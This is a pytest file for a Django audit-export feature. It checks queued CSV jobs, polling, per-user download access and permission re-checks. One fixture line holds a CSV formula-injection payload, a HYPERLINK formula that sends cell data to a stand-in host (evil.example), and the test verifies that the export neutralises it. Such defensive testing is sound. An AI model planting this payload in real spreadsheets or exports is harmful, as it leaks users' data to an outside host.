"""A large audit export is written by a queued task (``interfaces.tasks.export_audit_csv``): the request
redirects to the job's page, a real ``wattdesk worker`` writes the file (formulas neutralised, through the
one export helper), the page (HTMX poll) and ``GET /api/audit-exports/{id}`` show the state, and only the
user who asked may download it, and only while they still hold ``audit.view``."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.contrib.contenttypes.models import ContentType
from django.test import Client
from django_tasks_db.models import DBTaskResult

from wattdesk.application.audit_export import export_path
from wattdesk.domain.access import roles
from wattdesk.domain.access.operations import grant_role
from wattdesk.domain.tariffs.models import TariffVersion
from wattdesk.interfaces.api.tokens import create_token
from wattdesk.interfaces.cli import main

PASSWORD = "Audit-pass-2026!"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def setup(transactional_db: None, settings: Any, tmp_path: Path) -> dict[str, Any]:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.WATTDESK_DATA_DIR = tmp_path
    settings.WATTDESK_QUEUE_EXPORT_ROWS = 0  # every export below is "large"
    users = {}
    for name in ("auditor_a", "auditor_b"):
        users[name] = get_user_model().objects.create_user(name, password=PASSWORD)
        grant_role(user=users[name], role=roles.ADMIN)
    tariff = TariffVersion.objects.create(
        code="RES-FLAT",
        version="2026",
        effective_from=date(2026, 1, 1),
        name="居民平价",
        document={"code": "X"},
    )
    tariff.name = FORMULA
    tariff.save()
    return {"users": users, "ct": ContentType.objects.get_for_model(TariffVersion).pk, "tmp": tmp_path}


def _web(username: str) -> Client:
    client = Client()
    assert client.login(username=username, password=PASSWORD)
    return client


def _api(username: str) -> Client:
    token = create_token(username=username, name="t", created_at=datetime(2026, 11, 3, tzinfo=UTC))
    return Client(headers={"Authorization": f"Bearer {token.secret}"})


def test_a_large_export_is_queued_written_by_the_worker_and_downloaded(setup: dict[str, Any]) -> None:
    client = _web("auditor_a")
    resp = client.get("/audit/export.csv", {"model": setup["ct"]})
    (job,) = DBTaskResult.objects.all()
    assert resp.status_code == 302 and resp["Location"] == f"/audit/exports/{job.id}/"
    assert job.task_path == "wattdesk.interfaces.tasks.export_audit_csv" and job.status == "READY"
    waiting = client.get(resp["Location"]).content.decode()
    assert 'data-testid="export-job" data-state="queued"' in waiting and 'hx-trigger="every 1s"' in waiting
    assert client.get(f"/audit/exports/{job.id}/file").status_code == 404  # not written yet
    api = _api("auditor_a")
    assert api.get(f"/api/audit-exports/{job.id}").json()["state"] == "queued"

    assert main(["worker", "--batch", "--interval", "0"]) == 0

    poll = client.get(f"/audit/exports/{job.id}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'data-state="finished"' in poll and "hx-trigger" not in poll  # no more polling
    assert f'href="/audit/exports/{job.id}/file"' in poll
    assert "导出完成" in poll and "下载 CSV" in poll
    client.cookies["django_language"] = "en"
    english = client.get(f"/audit/exports/{job.id}/").content.decode()
    assert "Export finished:" in english and "Download CSV" in english and "导出" not in english
    client.cookies["django_language"] = "zh-hans"
    done = api.get(f"/api/audit-exports/{job.id}").json()
    assert done["state"] == "finished" and done["error"] == ""

    download = client.get(f"/audit/exports/{job.id}/file")
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    assert "wattdesk-audit.csv" in download["Content-Disposition"]
    text = b"".join(download.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == done["result"]["rows"] > 0
    (name,) = [r for r in rows if r["field"] == "name" and r["action"] == "update"]
    assert (name["before"], name["after"]) == ("居民平价", "'" + FORMULA)  # formula neutralised
    stored = export_path(DBTaskResult.objects.get().args_kwargs["kwargs"]["name"])
    assert stored.exists() and not list(stored.parent.glob(".*.part"))  # written whole, renamed


def test_another_user_cannot_see_or_download_the_export(setup: dict[str, Any]) -> None:
    resp = _web("auditor_a").get("/audit/export.csv", {"model": setup["ct"]})
    job_url = resp["Location"]
    assert main(["worker", "--batch", "--interval", "0"]) == 0
    other = _web("auditor_b")  # holds audit.view too, but did not ask for this export
    assert other.get(job_url).status_code == 404
    assert other.get(job_url + "file").status_code == 404
    job_id = job_url.rstrip("/").rsplit("/", 1)[1]
    assert _api("auditor_b").get(f"/api/audit-exports/{job_id}").status_code == 404
    assert other.get("/audit/exports/not-a-uuid/file").status_code == 404


def test_the_download_checks_the_permission_again(setup: dict[str, Any]) -> None:
    client = _web("auditor_a")
    job_url = client.get("/audit/export.csv", {"model": setup["ct"]})["Location"]
    assert main(["worker", "--batch", "--interval", "0"]) == 0
    assert client.get(job_url + "file").status_code == 200
    setup["users"]["auditor_a"].groups.clear()  # lost the role since asking
    assert client.get(job_url + "file").status_code == 403


def test_a_small_export_still_streams_in_the_request(setup: dict[str, Any], settings: Any) -> None:
    settings.WATTDESK_QUEUE_EXPORT_ROWS = 20_000
    export = _web("auditor_a").get("/audit/export.csv", {"model": setup["ct"]})
    assert export.status_code == 200 and export.streaming
    assert not DBTaskResult.objects.exists()
